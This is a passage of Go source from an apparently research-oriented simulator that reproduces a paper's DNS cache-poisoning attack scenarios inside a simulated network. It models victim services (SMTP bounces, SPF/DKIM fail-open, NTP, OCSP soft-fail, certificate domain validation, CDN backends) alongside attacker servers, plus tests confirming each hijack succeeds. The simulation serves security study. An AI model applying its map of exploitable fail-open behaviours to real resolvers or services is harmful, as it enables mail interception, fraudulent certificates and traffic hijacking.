		cb(OutcomeDoS, netip.Addr{})
		return
	}
	srvName := "_xmpp-server._tcp." + dom
	resolver.StubLookup(xp.Host, xp.ResolverAddr, srvName, dnswire.TypeSRV, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				xp.Failures++
				cb(OutcomeDoS, netip.Addr{})
				return
			}
			srv, ok := rrs[0].Data.(*dnswire.SRVData)
			if !ok {
				xp.Failures++
				cb(OutcomeDoS, netip.Addr{})
				return
			}
			lookupA(xp.Host, xp.ResolverAddr, srv.Target, func(addr netip.Addr, err error) {
				if err != nil {
					xp.Failures++
					cb(OutcomeDoS, netip.Addr{})
					return
				}
				xp.Host.CallTCP(addr, XMPPServerPort, []byte("xmpp-s2s "+message), func(resp []byte) {
					if resp == nil {
						xp.Failures++
						cb(OutcomeDoS, addr)
						return
					}
					if xp.VerifyTLS {
						ident, ok := parseIdent(resp)
						if !ok || ident.VerifyFor(srv.Target) != nil {
							xp.Failures++
							cb(OutcomeDoS, addr)
							return
						}
					}
					xp.Sent++
					cb(OutcomeOK, addr)
				})
			})
		})
}

func parseIdent(resp []byte) (Identity, bool) {
	s := string(resp)
	const p = "ident="
	if len(s) < len(p) || s[:len(p)] != p {
		return Identity{}, false
	}
	rest := s[len(p):]
	for i := 0; i < len(rest); i++ {
		if rest[i] == '/' {
			subj := rest[:i]
			iss := rest[i+1:]
			if j := indexByte(iss, '\n'); j >= 0 {
				iss = iss[:j]
			}
			return Identity{Subject: subj, Issuer: iss}, true
		}
	}
	return Identity{}, false
}

func indexByte(s string, b byte) int {
	for i := 0; i < len(s); i++ {
		if s[i] == b {
			return i
		}
	}
	return -1
}
