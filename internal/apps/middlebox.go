package apps

import (
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// TriggerMode is how a middlebox refreshes its DNS-derived state
// (Table 2's "Trigger query" column).
type TriggerMode string

// TriggerMode values.
const (
	TriggerTimer    TriggerMode = "timer"
	TriggerOnDemand TriggerMode = "on-demand"
)

// MiddleboxProfile describes one Table 2 appliance.
type MiddleboxProfile struct {
	Type     string
	Provider string
	Trigger  TriggerMode
	// CacheTime is the refresh period for timer devices, or the
	// special value 0 for "honours record TTL".
	CacheTime time.Duration
	// AlexaSites is the number of 100K-top Alexa sites using the
	// provider (Table 2's last column; 0 = not reported).
	AlexaSites int
}

// Table2Profiles reproduces the paper's middlebox survey rows.
func Table2Profiles() []MiddleboxProfile {
	return []MiddleboxProfile{
		{"Firewall", "pfSense", TriggerTimer, 500 * time.Second, 0},
		{"Firewall", "Sophos UTM", TriggerTimer, 240 * time.Second, 0},
		{"Load balancer", "Kemp Technologies", TriggerTimer, time.Hour, 0},
		{"Load balancer", "F5 Networks", TriggerTimer, time.Hour, 0},
		{"CDN", "Stackpath", TriggerOnDemand, 0, 79},
		{"CDN", "Fastly", TriggerTimer, 0, 1143},
		{"CDN", "AWS", TriggerOnDemand, 0, 11057},
		{"CDN", "Cloudflare", TriggerOnDemand, 0, 17393},
		{"Managed DNS (ALIAS)", "DNSimple", TriggerOnDemand, 0, 248},
		{"Managed DNS (ALIAS)", "DNS Made Easy", TriggerTimer, 35 * time.Minute, 1192},
		{"Managed DNS (ALIAS)", "Oracle Cloud", TriggerOnDemand, 0, 1382},
		{"Managed DNS (ALIAS)", "Cloudflare", TriggerOnDemand, 0, 20027},
	}
}

// Middlebox is a DNS-consuming appliance: it keeps a backend address
// derived from a configured name, refreshed per its profile. For the
// attacker the profile decides trigger predictability: on-demand
// devices re-query whenever a client request arrives (attacker
// controlled), timer devices on a fixed schedule (attacker
// predictable).
type Middlebox struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Profile      MiddleboxProfile
	BackendName  string

	Backend    netip.Addr
	Refreshes  uint64
	LastTTL    uint32
	refreshing bool
}

// NewMiddlebox creates the appliance; call Start for timer devices.
func NewMiddlebox(host *netsim.Host, resolverAddr netip.Addr, profile MiddleboxProfile, backendName string) *Middlebox {
	return &Middlebox{
		Host: host, ResolverAddr: resolverAddr, Profile: profile,
		BackendName: dnswire.CanonicalName(backendName),
	}
}

// Refresh re-resolves the backend name once.
func (mb *Middlebox) Refresh(done func()) {
	if mb.refreshing {
		if done != nil {
			done()
		}
		return
	}
	mb.refreshing = true
	lookupA(mb.Host, mb.ResolverAddr, mb.BackendName, func(addr netip.Addr, err error) {
		mb.refreshing = false
		if err == nil {
			mb.Backend = addr
			mb.Refreshes++
		}
		if done != nil {
			done()
		}
	})
}

// Start schedules timer-driven refreshes per the profile.
func (mb *Middlebox) Start() {
	if mb.Profile.Trigger != TriggerTimer {
		return
	}
	period := mb.Profile.CacheTime
	if period == 0 {
		period = 5 * time.Minute
	}
	clock := mb.Host.Network().Clock
	var tick func()
	tick = func() {
		mb.Refresh(nil)
		clock.After(period, tick)
	}
	clock.After(0, tick)
}

// HandleClientRequest models a front-end request hitting the device:
// on-demand appliances re-resolve (if their cached entry expired)
// before forwarding — this is the attacker's trigger.
func (mb *Middlebox) HandleClientRequest(path string, cb func(FetchResult)) {
	forward := func() {
		if !mb.Backend.IsValid() {
			cb(FetchResult{Err: errNoBackend})
			return
		}
		mb.Host.CallTCP(mb.Backend, HTTPPort, []byte(path), func(resp []byte) {
			cb(FetchResult{Body: string(resp), ServerAddr: mb.Backend})
		})
	}
	if mb.Profile.Trigger == TriggerOnDemand {
		mb.Refresh(forward)
		return
	}
	forward()
}

var errNoBackend = errNB{}

type errNB struct{}

func (errNB) Error() string { return "apps: middlebox has no resolved backend" }
