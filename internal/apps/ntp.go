package apps

import (
	"encoding/binary"
	"net/netip"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
)

// NTPPort is the NTP service port.
const NTPPort = 123

// NTPServer answers time queries with its own clock plus a fixed
// offset (an attacker server sets a large ServedOffset to shift victim
// clocks — "Hijack: change time", Table 1).
type NTPServer struct {
	Host         *netsim.Host
	ServedOffset time.Duration
	Served       uint64
}

// NewNTPServer binds an NTP responder on host.
func NewNTPServer(host *netsim.Host, offset time.Duration) *NTPServer {
	s := &NTPServer{Host: host, ServedOffset: offset}
	host.BindUDP(NTPPort, func(dg netsim.Datagram) {
		s.Served++
		now := host.Network().Clock.Now() + s.ServedOffset
		var b [8]byte
		binary.BigEndian.PutUint64(b[:], uint64(now))
		host.SendUDP(NTPPort, dg.Src, dg.SrcPort, b[:])
	})
	return s
}

// NTPClient periodically resolves its pool hostname and synchronises
// its local clock to whatever host the A record points at. The pool
// hostname is fixed configuration ("known" query name in Table 1) —
// the attacker cannot choose it but can predict it and the timer.
type NTPClient struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	PoolName     string
	Interval     time.Duration

	// ClockOffset is the client's notion of "correction to apply" —
	// zero when synchronised to an honest server.
	ClockOffset time.Duration
	Syncs       uint64
	SyncErrors  uint64
	LastServer  netip.Addr
}

// NewNTPClient creates a client synchronising against poolName.
func NewNTPClient(host *netsim.Host, resolverAddr netip.Addr, poolName string) *NTPClient {
	return &NTPClient{
		Host: host, ResolverAddr: resolverAddr,
		PoolName: dnswire.CanonicalName(poolName),
		Interval: 64 * time.Second,
	}
}

// SyncOnce performs one resolve-and-sync exchange.
func (c *NTPClient) SyncOnce(done func(Outcome)) {
	finish := func(o Outcome) {
		if done != nil {
			done(o)
		}
	}
	lookupA(c.Host, c.ResolverAddr, c.PoolName, func(addr netip.Addr, err error) {
		if err != nil {
			c.SyncErrors++
			finish(OutcomeDoS)
			return
		}
		c.LastServer = addr
		responded := false
		var port uint16
		port = c.Host.BindUDP(0, func(dg netsim.Datagram) {
			if responded || dg.Src != addr || len(dg.Payload) < 8 {
				return
			}
			responded = true
			c.Host.CloseUDP(port)
			remote := time.Duration(binary.BigEndian.Uint64(dg.Payload))
			c.ClockOffset = remote - c.Host.Network().Clock.Now()
			c.Syncs++
			if c.ClockOffset > time.Second || c.ClockOffset < -time.Second {
				finish(OutcomeHijack) // time changed under us
				return
			}
			finish(OutcomeOK)
		})
		c.Host.SendUDP(port, addr, NTPPort, []byte("ntpq"))
		c.Host.Network().Clock.After(5*time.Second, func() {
			if !responded {
				responded = true
				c.Host.CloseUDP(port)
				c.SyncErrors++
				finish(OutcomeDoS)
			}
		})
	})
}

// Start schedules periodic synchronisation.
func (c *NTPClient) Start() {
	clock := c.Host.Network().Clock
	var tick func()
	tick = func() {
		c.SyncOnce(nil)
		clock.After(c.Interval, tick)
	}
	clock.After(0, tick)
}
