package apps

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// CertificateAuthority issues certificates after domain validation
// (DV): it resolves the applicant domain THROUGH ITS OWN RESOLVER and
// fetches a challenge token from the resulting address. A poisoned CA
// resolver therefore issues certificates for domains the attacker
// never controlled — "Hijack: fraudulent certificate" (Table 1),
// previously demonstrated by [21, 23].
type CertificateAuthority struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Issued       []Identity
	Refused      uint64
}

// RequestCertificate runs HTTP-01-style validation: the requester must
// have placed token at http://<domain>/.well-known/acme.
func (ca *CertificateAuthority) RequestCertificate(domain, token string, cb func(Identity, error)) {
	domain = dnswire.CanonicalName(domain)
	lookupA(ca.Host, ca.ResolverAddr, domain, func(addr netip.Addr, err error) {
		if err != nil {
			ca.Refused++
			cb(Identity{}, fmt.Errorf("apps: DV resolve %s: %w", domain, err))
			return
		}
		ca.Host.CallTCP(addr, HTTPPort, []byte("/.well-known/acme"), func(resp []byte) {
			if resp == nil || !strings.Contains(string(resp), token) {
				ca.Refused++
				cb(Identity{}, fmt.Errorf("apps: DV challenge mismatch for %s at %s", domain, addr))
				return
			}
			id := Identity{Subject: domain, Issuer: TrustedCA}
			ca.Issued = append(ca.Issued, id)
			cb(id, nil)
		})
	})
}

// OCSPResponder answers revocation queries.
type OCSPResponder struct {
	Host    *netsim.Host
	Revoked map[string]bool
	Queries uint64
}

// OCSPPort is the responder port.
const OCSPPort = 8080

// NewOCSPResponder binds a responder on host.
func NewOCSPResponder(host *netsim.Host) *OCSPResponder {
	o := &OCSPResponder{Host: host, Revoked: map[string]bool{}}
	host.BindTCP(OCSPPort, func(_ netip.Addr, req []byte) []byte {
		o.Queries++
		subject := strings.TrimSpace(string(req))
		if o.Revoked[dnswire.CanonicalName(subject)] {
			return []byte("revoked")
		}
		return []byte("good")
	})
	return o
}

// OCSPClient checks certificate status at a responder hostname; like
// every deployed browser it SOFT-FAILS: if the responder cannot be
// reached the certificate is treated as good. Poisoning the responder
// name to a black hole therefore silently disables revocation —
// "Downgrade: no check" (Table 1).
type OCSPClient struct {
	Host          *netsim.Host
	ResolverAddr  netip.Addr
	ResponderName string

	Checked   uint64
	SoftFails uint64
}

// CheckRevocation reports whether the certificate should be accepted.
func (oc *OCSPClient) CheckRevocation(cert Identity, cb func(accept bool, outcome Outcome)) {
	oc.Checked++
	lookupA(oc.Host, oc.ResolverAddr, oc.ResponderName, func(addr netip.Addr, err error) {
		if err != nil {
			oc.SoftFails++
			cb(true, OutcomeDowngrade)
			return
		}
		oc.Host.CallTCP(addr, OCSPPort, []byte(cert.Subject), func(resp []byte) {
			switch {
			case resp == nil:
				oc.SoftFails++
				cb(true, OutcomeDowngrade) // unreachable: soft-fail
			case string(resp) == "revoked":
				cb(false, OutcomeOK)
			default:
				cb(true, OutcomeOK)
			}
		})
	})
}

// PasswordRecovery models the §4.5 account-takeover building block
// (used against RIR/registrar SSO in [29]): a web service emails a
// reset link to the account's address; the mail goes wherever the
// service's resolver says the account domain's MX lives.
type PasswordRecovery struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	ServiceName  string
	Sent         uint64
	Lost         uint64
}

// Recover sends a reset token for account (user@domain).
func (pr *PasswordRecovery) Recover(account, token string, cb func(deliveredTo netip.Addr, err error)) {
	dom, err := domainOf(account)
	if err != nil {
		cb(netip.Addr{}, err)
		return
	}
	resolver.StubLookup(pr.Host, pr.ResolverAddr, dom, dnswire.TypeMX, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				pr.Lost++
				cb(netip.Addr{}, fmt.Errorf("apps: recovery MX for %s: %w", dom, err))
				return
			}
			mx, ok := rrs[0].Data.(*dnswire.MXData)
			if !ok {
				pr.Lost++
				cb(netip.Addr{}, fmt.Errorf("apps: bad MX for %s", dom))
				return
			}
			lookupA(pr.Host, pr.ResolverAddr, mx.Host, func(addr netip.Addr, err error) {
				if err != nil {
					pr.Lost++
					cb(netip.Addr{}, err)
					return
				}
				body := fmt.Sprintf("noreply@%s\n%s\nreset-token: %s", pr.ServiceName, account, token)
				pr.Host.CallTCP(addr, SMTPPort, []byte(body), func([]byte) {
					pr.Sent++
					cb(addr, nil)
				})
			})
		})
}
