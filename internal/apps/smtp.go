package apps

import (
	"fmt"
	"net/netip"
	"strings"
	"time"

	"crosslayer/internal/dnswire"
	"crosslayer/internal/netsim"
	"crosslayer/internal/resolver"
)

// SMTPPort is the mail submission/relay port.
const SMTPPort = 25

// Mail is one message in flight.
type Mail struct {
	From, To string
	Body     string
	// SenderIP is the connecting client's address (SPF input).
	SenderIP netip.Addr
	// DKIMSignedBy carries the signing domain and selector of a
	// DKIM-signed message ("" when unsigned).
	DKIMSignedBy string
	DKIMValidKey string // the public key the signature verifies against
}

// MailServer is an SMTP server for one domain with SPF/DKIM/DMARC
// policy evaluation and bounce (DSN) generation — the email rows of
// Table 1. It uses the victim resolver for every DNS decision, which
// is exactly what the attacks exploit.
type MailServer struct {
	Host         *netsim.Host
	ResolverAddr netip.Addr
	Domain       string
	// LocalUsers accept delivery; everything else bounces (the §4.3.1
	// bounce trigger: a DSN requires resolving the sender's domain).
	LocalUsers map[string]bool
	// Inbox and Bounced record outcomes for inspection.
	Inbox   []Mail
	Spam    []Mail
	Bounced []Mail

	// Policy evaluation telemetry.
	SPFChecked, SPFFailedOpen   uint64
	DKIMChecked, DKIMFailedOpen uint64
	BouncesSent, BouncesLost    uint64
}

// NewMailServer binds an SMTP service on host for domain.
func NewMailServer(host *netsim.Host, resolverAddr netip.Addr, domain string) *MailServer {
	ms := &MailServer{
		Host: host, ResolverAddr: resolverAddr,
		Domain:     dnswire.CanonicalName(domain),
		LocalUsers: map[string]bool{},
	}
	host.BindTCP(SMTPPort, ms.serveTCP)
	return ms
}

// serveTCP accepts "MAIL FROM|RCPT TO|BODY" lines; a full SMTP state
// machine is not needed to reproduce the DNS behaviour under study.
func (ms *MailServer) serveTCP(src netip.Addr, req []byte) []byte {
	parts := strings.SplitN(string(req), "\n", 3)
	if len(parts) < 3 {
		return []byte("500 syntax")
	}
	m := Mail{From: parts[0], To: parts[1], Body: parts[2], SenderIP: src}
	ms.Deliver(m, nil)
	return []byte("250 queued")
}

// Deliver runs the inbound pipeline: SPF → DKIM/DMARC → mailbox or
// bounce. done (optional) fires when processing completes.
func (ms *MailServer) Deliver(m Mail, done func(Outcome)) {
	finish := func(o Outcome) {
		if done != nil {
			done(o)
		}
	}
	user, ok := ms.localPart(m.To)
	if !ok {
		// Not our domain at all: reject outright.
		finish(OutcomeOK)
		return
	}
	ms.checkSPF(m, func(spfPass bool) {
		ms.checkDKIM(m, func(dkimPass bool) {
			if !spfPass || !dkimPass {
				ms.Spam = append(ms.Spam, m)
				finish(OutcomeOK) // correctly classified as spam
				return
			}
			if ms.LocalUsers[user] {
				ms.Inbox = append(ms.Inbox, m)
				finish(OutcomeOK)
				return
			}
			// Unknown recipient: send a Delivery Status Notification
			// back to the sender's domain — the bounce that triggers
			// attacker-chosen queries (§4.3.1).
			ms.sendBounce(m, finish)
		})
	})
}

func (ms *MailServer) localPart(addr string) (string, bool) {
	i := strings.LastIndexByte(addr, '@')
	if i < 0 {
		return "", false
	}
	if !dnswire.EqualNames(addr[i+1:], ms.Domain) {
		return "", false
	}
	return addr[:i], true
}

// checkSPF fetches the sender domain's SPF TXT record and checks the
// connecting IP against it. DNS failure ⇒ fail-open (the downgrade
// the paper demonstrates: no data means no policy means accept).
func (ms *MailServer) checkSPF(m Mail, cb func(pass bool)) {
	ms.SPFChecked++
	dom, err := domainOf(m.From)
	if err != nil {
		cb(false)
		return
	}
	lookupTXT(ms.Host, ms.ResolverAddr, dom, func(txts []string, err error) {
		if err != nil {
			// No SPF policy retrievable: accept (fail-open).
			ms.SPFFailedOpen++
			cb(true)
			return
		}
		for _, txt := range txts {
			if !strings.HasPrefix(txt, "v=spf1") {
				continue
			}
			cb(spfMatches(txt, m.SenderIP))
			return
		}
		ms.SPFFailedOpen++
		cb(true) // no SPF record published: neutral/accept
	})
}

// spfMatches evaluates the ip4: mechanisms of a simplified SPF policy.
func spfMatches(policy string, sender netip.Addr) bool {
	for _, tok := range strings.Fields(policy) {
		if cidr, ok := strings.CutPrefix(tok, "ip4:"); ok {
			if p, err := netip.ParsePrefix(cidr); err == nil && p.Contains(sender) {
				return true
			}
			if a, err := netip.ParseAddr(cidr); err == nil && a == sender {
				return true
			}
		}
	}
	return !strings.Contains(policy, "-all") // ~all / ?all: accept
}

// checkDKIM fetches the signing domain's DKIM key record and compares
// it to the key the signature verifies under. DNS failure ⇒ fail-open.
func (ms *MailServer) checkDKIM(m Mail, cb func(pass bool)) {
	if m.DKIMSignedBy == "" {
		cb(true) // unsigned mail: DKIM imposes nothing by itself
		return
	}
	ms.DKIMChecked++
	name := "sel1._domainkey." + dnswire.CanonicalName(m.DKIMSignedBy)
	lookupTXT(ms.Host, ms.ResolverAddr, name, func(txts []string, err error) {
		if err != nil {
			ms.DKIMFailedOpen++
			cb(true)
			return
		}
		for _, txt := range txts {
			if strings.Contains(txt, m.DKIMValidKey) {
				cb(true)
				return
			}
		}
		cb(false)
	})
}

// sendBounce resolves the sender domain's MX, then its A, and delivers
// the DSN there. A poisoned MX/A sends the bounce (with the original
// message, possibly containing secrets like password-recovery links)
// to the attacker.
func (ms *MailServer) sendBounce(orig Mail, done func(Outcome)) {
	dom, err := domainOf(orig.From)
	if err != nil {
		done(OutcomeOK)
		return
	}
	resolver.StubLookup(ms.Host, ms.ResolverAddr, dom, dnswire.TypeMX, 8*time.Second,
		func(rrs []*dnswire.RR, err error) {
			if err != nil || len(rrs) == 0 {
				ms.BouncesLost++
				done(OutcomeDoS)
				return
			}
			best := ""
			bestPref := uint16(0xffff)
			for _, rr := range rrs {
				if mx, ok := rr.Data.(*dnswire.MXData); ok && mx.Pref <= bestPref {
					best, bestPref = mx.Host, mx.Pref
				}
			}
			if best == "" {
				ms.BouncesLost++
				done(OutcomeDoS)
				return
			}
			lookupA(ms.Host, ms.ResolverAddr, best, func(addr netip.Addr, err error) {
				if err != nil {
					ms.BouncesLost++
					done(OutcomeDoS)
					return
				}
				dsn := fmt.Sprintf("mailer-daemon@%s\n%s\nDSN: undeliverable: %s", ms.Domain, orig.From, orig.Body)
				ms.Host.CallTCP(addr, SMTPPort, []byte(dsn), func(resp []byte) {
					ms.BouncesSent++
					ms.Bounced = append(ms.Bounced, orig)
					done(OutcomeOK)
				})
			})
		})
}

// MailSink records everything delivered to it over SMTP — used as the
// attacker's mail collector and as a generic remote MTA.
type MailSink struct {
	Host     *netsim.Host
	Received []string
}

// NewMailSink binds a collector on host.
func NewMailSink(host *netsim.Host) *MailSink {
	s := &MailSink{Host: host}
	host.BindTCP(SMTPPort, func(_ netip.Addr, req []byte) []byte {
		s.Received = append(s.Received, string(req))
		return []byte("250 ok")
	})
	return s
}
