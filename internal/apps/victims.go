package apps

import (
	"net/netip"
	"time"

	"crosslayer/internal/scenario"
)

// Victim is a registrable application victim: one Table 1 row turned
// into a runnable harness the campaign sweep (internal/campaign) can
// deploy into any scenario, attack, and then exercise to observe the
// application-level outcome. The same demonstrations exist as the
// apps test suite (see DemoName); the registry makes them first-class
// runners instead of test-only code.
type Victim struct {
	// Key is the stable short identifier used in campaign filters and
	// rendered matrices ("web", "smtp", ...).
	Key string
	// Name is the display form (Table 1's protocol/use-case).
	Name string
	// DemoName is the Table1Row.DemoName this victim reenacts; the
	// consistency tests pin the mapping in both directions.
	DemoName string
	// QName is the domain name whose A record a poisoning methodology
	// must plant for the attack on this victim to land. All registry
	// victims are reachable through an A-record poison (the common
	// denominator of the three §3 methodologies: FragDNS can only
	// patch A rdata).
	QName string
	// AttackOutcome is the outcome the Table 1 row promises once QName
	// is poisoned (the matrix's impact column checks it).
	AttackOutcome Outcome
	// Deploy installs the genuine and adversarial application
	// endpoints into the scenario and returns the exercise function:
	// calling it performs one application transaction (draining the
	// scenario's event queue) and classifies what happened. Clients
	// resolve through s.DNSAddr(), so a configured forwarder chain
	// carries the application's DNS traffic like the paper's §4.3
	// victims.
	Deploy func(s *scenario.S) func() Outcome
}

// Victims returns the application victim registry in Table 1 order.
func Victims() []Victim {
	return []Victim{
		{
			Key: "radius", Name: "RADIUS/eduroam peer discovery",
			DemoName: "TestRadiusDoS", QName: "www.vict.im.",
			AttackOutcome: OutcomeDoS,
			Deploy: func(s *scenario.S) func() Outcome {
				NewFederationServer(s.WWWHost, Identity{Subject: "www.vict.im.", Issuer: TrustedCA})
				NewFederationServer(s.Attacker, SelfSigned("www.vict.im."))
				rc := &RadiusClient{Host: s.ServiceHost, ResolverAddr: s.DNSAddr()}
				return func() Outcome {
					out := OutcomeDoS
					rc.Authenticate("student@vict.im", func(o Outcome) { out = o })
					s.Run()
					return out
				}
			},
		},
		{
			Key: "xmpp", Name: "XMPP federation",
			DemoName: "TestXMPPEavesdropping", QName: "www.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewFederationServer(s.WWWHost, Identity{Subject: "www.vict.im.", Issuer: TrustedCA})
				evil := NewFederationServer(s.Attacker, SelfSigned("www.vict.im."))
				xp := &XMPPServerPeer{Host: s.ServiceHost, ResolverAddr: s.DNSAddr()}
				return func() Outcome {
					out := OutcomeDoS
					var at netip.Addr
					xp.SendMessage("friend@vict.im", "secret", func(o Outcome, addr netip.Addr) { out, at = o, addr })
					s.Run()
					if at == scenario.AttackerIP && len(evil.Transcript) > 0 {
						return OutcomeHijack
					}
					return out
				}
			},
		},
		{
			Key: "smtp", Name: "SMTP bounce interception",
			DemoName: "TestSMTPBounceStealsMailViaPoisonedMX", QName: "mail.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				ms := NewMailServer(s.ServiceHost, s.DNSAddr(), "victim-net.example.")
				NewMailSink(s.MailHost)
				sink := NewMailSink(s.Attacker)
				return func() Outcome {
					// A bounce to an unknown local user resolves the
					// sender domain's MX then its A: the poisoned
					// mail.vict.im. A hands the DSN to the attacker.
					before := len(sink.Received)
					ms.Deliver(Mail{From: "alice@vict.im", To: "ghost@victim-net.example.",
						Body: "secret", SenderIP: scenario.VictimMail}, nil)
					s.Run()
					if len(sink.Received) > before {
						return OutcomeHijack
					}
					if ms.BouncesLost > 0 {
						return OutcomeDoS
					}
					return OutcomeOK
				}
			},
		},
		{
			Key: "web", Name: "Plain-HTTP web fetch",
			DemoName: "TestWebHijackPlainHTTP", QName: "www.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewWebServer(s.WWWHost, Identity{Subject: "www.vict.im.", Issuer: TrustedCA}).Pages["/"] = "genuine"
				NewWebServer(s.Attacker, SelfSigned("www.vict.im.")).Pages["/"] = "evil"
				wc := &WebClient{Host: s.ClientHost, ResolverAddr: s.DNSAddr()}
				return func() Outcome {
					var res FetchResult
					wc.Get("www.vict.im.", "/", func(r FetchResult) { res = r })
					s.Run()
					switch {
					case res.ServerAddr == scenario.AttackerIP:
						return OutcomeHijack
					case res.Err != nil:
						return OutcomeDoS
					default:
						return OutcomeOK
					}
				}
			},
		},
		{
			Key: "ntp", Name: "NTP time shift",
			DemoName: "TestNTPTimeShift", QName: "ntp.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewNTPServer(s.WWWHost, 0)
				NewNTPServer(s.Attacker, 10*365*24*time.Hour)
				c := NewNTPClient(s.ClientHost, s.DNSAddr(), "ntp.vict.im.")
				return func() Outcome {
					out := OutcomeDoS
					c.SyncOnce(func(o Outcome) { out = o })
					s.Run()
					return out
				}
			},
		},
		{
			Key: "bitcoin", Name: "Bitcoin peer bootstrap",
			DemoName: "TestBitcoinEclipse", QName: "seed.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewBitcoinNode(s.WWWHost, "block-800000-genuine")
				NewBitcoinNode(s.Attacker, "block-799000-fake")
				return func() Outcome {
					// A node restart bootstraps from the DNS seed; an
					// eclipsed node adopts the attacker's fake chain.
					bc := &BitcoinClient{Host: s.ClientHost, ResolverAddr: s.DNSAddr(), SeedName: "seed.vict.im."}
					out := OutcomeDoS
					bc.Bootstrap(func(o Outcome) { out = o })
					s.Run()
					if bc.Eclipsed("block-799000-fake") {
						return OutcomeHijack
					}
					return out
				}
			},
		},
		{
			Key: "vpn", Name: "VPN gateway connect",
			DemoName: "TestVPNDoSAndOpportunisticIPsecHijack", QName: "vpn.vict.im.",
			AttackOutcome: OutcomeDoS,
			Deploy: func(s *scenario.S) func() Outcome {
				NewVPNServer(s.WWWHost, Identity{Subject: "vpn.vict.im.", Issuer: TrustedCA})
				NewVPNServer(s.Attacker, SelfSigned("vpn.vict.im."))
				vc := &VPNClient{Host: s.ClientHost, ResolverAddr: s.DNSAddr(), Gateway: "vpn.vict.im."}
				return func() Outcome {
					out := OutcomeDoS
					vc.Connect(func(o Outcome) { out = o })
					s.Run()
					return out
				}
			},
		},
		{
			Key: "pki", Name: "PKI domain validation",
			DemoName: "TestFraudulentCertificateViaPoisonedCAResolver", QName: "www.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewWebServer(s.WWWHost, Identity{Subject: "www.vict.im.", Issuer: TrustedCA})
				evil := NewWebServer(s.Attacker, SelfSigned("attacker"))
				evil.Pages["/.well-known/acme"] = "token-ATTACK"
				ca := &CertificateAuthority{Host: s.ServiceHost, ResolverAddr: s.DNSAddr()}
				return func() Outcome {
					// The attacker requests a certificate for the victim
					// domain; issuance means the DV check validated
					// against the attacker's host — a fraudulent cert.
					issued := false
					ca.RequestCertificate("www.vict.im.", "token-ATTACK",
						func(_ Identity, err error) { issued = err == nil })
					s.Run()
					if issued {
						return OutcomeHijack
					}
					return OutcomeOK
				}
			},
		},
		{
			Key: "ocsp", Name: "OCSP revocation check",
			DemoName: "TestOCSPSoftFailDowngrade", QName: "ocsp.vict.im.",
			AttackOutcome: OutcomeDowngrade,
			Deploy: func(s *scenario.S) func() Outcome {
				responder := NewOCSPResponder(s.WWWHost)
				responder.Revoked["compromised.vict.im."] = true
				oc := &OCSPClient{Host: s.ClientHost, ResolverAddr: s.DNSAddr(), ResponderName: "ocsp.vict.im."}
				revoked := Identity{Subject: "compromised.vict.im.", Issuer: TrustedCA}
				return func() Outcome {
					accept, out := false, OutcomeDoS
					oc.CheckRevocation(revoked, func(a bool, o Outcome) { accept, out = a, o })
					s.Run()
					if accept && out == OutcomeDowngrade {
						return OutcomeDowngrade
					}
					if !accept {
						return OutcomeOK // revoked cert correctly refused
					}
					return out
				}
			},
		},
		{
			Key: "cdn", Name: "On-demand CDN backend",
			DemoName: "TestMiddleboxOnDemandIsAttackerTriggerable", QName: "www.vict.im.",
			AttackOutcome: OutcomeHijack,
			Deploy: func(s *scenario.S) func() Outcome {
				NewWebServer(s.WWWHost, Identity{Subject: "www.vict.im.", Issuer: TrustedCA}).Pages["/"] = "backend"
				NewWebServer(s.Attacker, SelfSigned("cdn")).Pages["/"] = "evil-backend"
				prof := Table2Profiles()[6] // AWS CDN: on-demand trigger
				mb := NewMiddlebox(s.ServiceHost, s.DNSAddr(), prof, "www.vict.im.")
				return func() Outcome {
					var res FetchResult
					mb.HandleClientRequest("/", func(r FetchResult) { res = r })
					s.Run()
					switch {
					case res.ServerAddr == scenario.AttackerIP:
						return OutcomeHijack
					case res.Err != nil:
						return OutcomeDoS
					default:
						return OutcomeOK
					}
				}
			},
		},
	}
}

// VictimByKey returns the registered victim with the given key.
func VictimByKey(key string) (Victim, bool) {
	for _, v := range Victims() {
		if v.Key == key {
			return v, true
		}
	}
	return Victim{}, false
}
