package apps_test

import (
	"testing"

	"crosslayer/internal/apps"
	"crosslayer/internal/dnswire"
	"crosslayer/internal/scenario"
)

// TestVictimRegistryOutcomes drives every registered victim through
// its two canonical states: a clean scenario must NOT yield the attack
// outcome, and a scenario whose QName A record is poisoned must yield
// exactly the outcome the Table 1 row promises. This is the contract
// the campaign matrix's impact column relies on.
func TestVictimRegistryOutcomes(t *testing.T) {
	for i, v := range apps.Victims() {
		v := v
		seed := int64(200 + i)
		t.Run(v.Key+"/clean", func(t *testing.T) {
			s := scenario.New(scenario.Config{Seed: seed})
			exercise := v.Deploy(s)
			if got := exercise(); got == v.AttackOutcome {
				t.Fatalf("clean scenario already shows the attack outcome %v", got)
			}
		})
		t.Run(v.Key+"/poisoned", func(t *testing.T) {
			s := scenario.New(scenario.Config{Seed: seed + 1000})
			exercise := v.Deploy(s)
			poisonA(s, v.QName)
			if got := exercise(); got != v.AttackOutcome {
				t.Fatalf("poisoned %s outcome = %v, want %v", v.QName, got, v.AttackOutcome)
			}
		})
	}
}

// TestVictimRegistryKeysUniqueAndResolvable pins the registry's lookup
// invariants: unique keys, resolvable via VictimByKey, and a QName the
// victim zone actually serves (so an un-poisoned scenario resolves it).
func TestVictimRegistryKeysUniqueAndResolvable(t *testing.T) {
	zone := scenario.BuildVictimZone(false)
